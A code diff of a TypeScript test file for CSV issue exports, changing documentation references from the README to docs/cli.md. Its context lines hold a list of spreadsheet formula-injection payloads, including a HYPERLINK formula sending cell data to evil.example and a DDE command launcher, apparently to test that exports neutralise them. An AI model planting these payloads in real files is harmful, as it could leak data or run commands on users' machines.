@@ -86,7 +86,7 @@ async function text(source: ExportSource, format: Parameters<typeof exportChunks
 
 const readCsv = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false });
 
-/** What each CSV column holds for an issue, read from the issue's JSON (README, "The CLI"). */
+/** What each CSV column holds for an issue, read from the issue's JSON (docs/cli.md). */
 function jsonProjection(json: Record<string, unknown>, reportId: string | null, vendor: string | null): string[] {
   const s = (v: unknown) => (v === null || v === undefined ? '' : String(v));
   const located = issueLocations(json as unknown as Issue)?.primary;
@@ -113,7 +113,7 @@ function jsonProjection(json: Record<string, unknown>, reportId: string | null, 
 const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=cmd|"/c calc"!A1'];
 
 describe('issue exports: CSV', () => {
-  it('has a stable header: the columns the README documents', () => {
+  it('has a stable header: the columns docs/cli.md documents', () => {
     assert.deepEqual(readCsv(issueCsvHeader()), [[...ISSUE_CSV_COLUMNS]]);
     assert.deepEqual(ISSUE_CSV_COLUMNS.slice(0, 3), ['fixReportId', 'vendor', 'id']);
     assert.equal(ISSUE_CSV_COLUMNS.at(-1), 'fpDescription');
